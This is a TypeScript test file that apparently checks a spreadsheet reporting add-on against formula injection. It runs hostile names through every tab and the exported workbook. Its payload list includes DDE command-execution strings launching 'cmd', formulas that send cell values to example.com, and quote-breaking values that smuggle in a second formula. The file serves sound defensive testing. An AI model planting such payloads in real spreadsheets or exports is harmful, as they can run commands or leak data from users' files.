import { read } from '@e965/xlsx';
import { beforeAll, describe, expect, test } from 'vitest';
import { words } from '../../src/addon/addon-words.ts';
import type { Answer, ClosedAnswer } from '../../src/contract/answers.ts';
import type { Choices } from '../../src/contract/choices.ts';
import { columnsOf, type Kind, kindNames, kinds, type Row, type Value } from '../../src/records/kinds.ts';
import { cornersOf } from '../../src/report/formulas/address.ts';
import type { StandIn } from '../../src/stand-in/stand-in.ts';
import { workbookBytes } from '../../src/workbench/command/workbook.ts';
import { faultsIn } from '../report/formulas/linter.ts';
import { countTried, isThorough, sampleOf } from '../thorough.ts';
import { addCompact, done, heldIn, importOf, openFile, press, pressHistory, pressPlan, tabNames } from './file.ts';
import { hostileTexts } from './nasty-texts.ts';

// The engine tells its timings.
console.debug = () => undefined;
console.group = () => undefined;

/** Names that are formulas, or that would end a text or the name of a tab within a formula and go on with one. */
const sharpest = [
  ...['=HYPERLINK("https://example.com/?"&A1;"click")', '"&IMAGE("https://example.com")&"', '\u200b=1+1', '＝1+1'],
  ...[`'!A1)+IMAGE("https://example.com")+('`, '1/2', '=1+1', '+1+1', '-1+1', '@SUM(1;1)', '\t=1+1', "'=1+1", '=A1'],
  ...["=cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', '=IMPORTXML("https://example.com";"//a")', '{=1+1}', '*'],
  ...[
    '=IMAGE("https://example.com/a.png?"&B2)',
    '");IMAGE("https://example.com',
    '"";IMPORTDATA("https://example.com")',
  ],
];

/** What any of the corpus may be taken for a formula, behind whatever stands before it. */
const formulaLike = hostileTexts.filter((text) => /^[^\p{L}\p{N}]{0,3}[=@+]\p{L}|["']\)?[;&]/u.test(text));

/** Names that come together in one file: as many as each list of a report shows. */
const together = 5;
const all = [...new Set([...sharpest, ...formulaLike])];
const whole = Array.from({ length: Math.ceil(all.length / together) }, (_, at) =>
  all.slice(at * together, (at + 1) * together),
);
const tried = sampleOf(whole, 1);

const [from, to] = [46082, 46112];
const choices: Choices = { goal: 'engagement', from, to, compare: 'previous', language: 'en' };

/** A record of a kind with a name in every column of texts, and figures in all others. */
const recordWith = (kind: Kind, name: string, at: number): Row =>
  columnsOf(kind).map(({ name: column, shape }): Value => {
    if (column === 'currency') return 'UAH';
    if (shape === 'text') return name;
    if (shape === 'tick') return true;
    if (column === 'answered_at' || column === 'resolved_at') return from + (at % 28) + 0.1;
    return shape === 'day' || shape === 'time' ? from + (at % 28) : 10 + at;
  });

const chosen = (file: StandIn, functionName: string): void => {
  const item = file.menu.items.find((each) => each.functionName === functionName);
  if (item === undefined) throw new Error(`The menu has no ${functionName}.`);
  file.click(item);
};

/** Whether every kind of records and every tab is made, or those in which most names stand. */
const kindsTried: readonly Kind[] = isThorough ? kindNames : ['days', 'posts', 'ads', 'site'];

/** A file in which everything was done with these names: records, clients, and every tab that is made of them. */
const fileOf = async (names: readonly string[]): Promise<StandIn> => {
  const file = await openFile(undefined, { locale: 'en_US', userLocale: 'en' });
  const [first = '', second = ''] = names;
  const clients = names.map((name) => ({ platform: name, account: name, client: name }));
  for (const kind of kindsTried) {
    const rows = names.map((name, at) => recordWith(kind, name, at));
    const whose = kind === 'days' ? { clients } : {};
    addCompact(file, importOf(kind, rows, { source: first, file: `${second}.csv`, ...whose }));
  }
  const { sheetId } = done(press(file, { ...choices, client: first, as: 'new' }));
  if (!isThorough) return file;
  done(file.run('pokaznykClose', sheetId) as Answer<ClosedAnswer>);
  done(press(file, choices));
  done(pressPlan(file, { goal: 'sales', from: 46023, language: 'en' }));
  done(pressHistory(file, { goal: 'sales', step: 'week', periods: 6, shown: 'goal', language: 'en' }));
  chosen(file, 'pokaznykByWeek');
  chosen(file, 'pokaznykLinks');
  return file;
};

/** The formulas of a tab. */
const formulasIn = (file: StandIn, tab: string): readonly string[] =>
  (file.run('formulas', tab) as readonly (readonly string[])[]).flat().filter((formula) => formula !== '');

/** Letters that no file of a workbook has. */
const storable = (text: string): string => text.replace(/(?![\t\n\r])\p{Cc}|\p{Cs}|[\ufffe\uffff]/gu, '');

describe.each(tried.map((names, at) => ({ names, at })))(
  `a file of names that may be formulas, ${countTried(tried, whole)}: $at`,
  ({ names }) => {
    let file: StandIn;
    beforeAll(async () => {
      file = await fileOf(names);
    }, 300_000);

    test('has no formula but ours, none of which does more than ours may', () => {
      const formulas = tabNames(file).flatMap((tab) => formulasIn(file, tab));
      expect(formulas.length).toBeGreaterThan(500);
      expect(formulas.filter((formula) => names.includes(formula))).toEqual([]);
      expect(formulas.flatMap((formula) => faultsIn(formula).map((fault) => `${fault}: ${formula}`))).toEqual([]);
    });

    test('has none in the tabs of data, of accounts and of what was done, which tell every name as it is', () => {
      const ofData = [...kindsTried.map((kind) => kinds[kind].tab.en), 'Accounts', words.log.en];
      expect(tabNames(file)).toEqual(expect.arrayContaining(ofData));
      expect(ofData.flatMap((tab) => formulasIn(file, tab))).toEqual([]);
      const accounts = heldIn(file, 'Accounts');
      for (const name of names) expect(accounts).toContainEqual([name, name, name]);
    });

    test('is a workbook of the same texts and of no other formulas', { timeout: 600_000 }, async () => {
      const book = read(await workbookBytes(file.model), { type: 'buffer', cellFormula: true });
      // A workbook has shorter names of tabs.
      for (const [at, tab] of tabNames(file).entries()) {
        const cells = Object.entries(book.Sheets[book.SheetNames[at] ?? ''] ?? {}).filter(
          ([address]) => !address.startsWith('!'),
        );
        const ours = file.run('formulas', tab) as readonly (readonly string[])[];
        const isOurs = (address: string): boolean => {
          const { left, top } = cornersOf(address);
          return (ours[top]?.[left] ?? '') !== '';
        };
        // Where a chart shows a gap, the workbook has a blank for the formula of one.
        expect(cells.filter(([address, { f }]) => f !== undefined && !isOurs(address))).toEqual([]);
        if (!kindsTried.some((kind) => kinds[kind].tab.en === tab)) continue;
        const held = heldIn(file, tab);
        const others = cells.flatMap(([address, { t, v }]) => {
          const { left, top } = cornersOf(address);
          const whole = storable(String(held[top]?.[left]));
          return t === 's' && v !== whole ? [{ tab, address, v, whole }] : [];
        });
        expect(others).toEqual([]);
      }
    });
  },
);
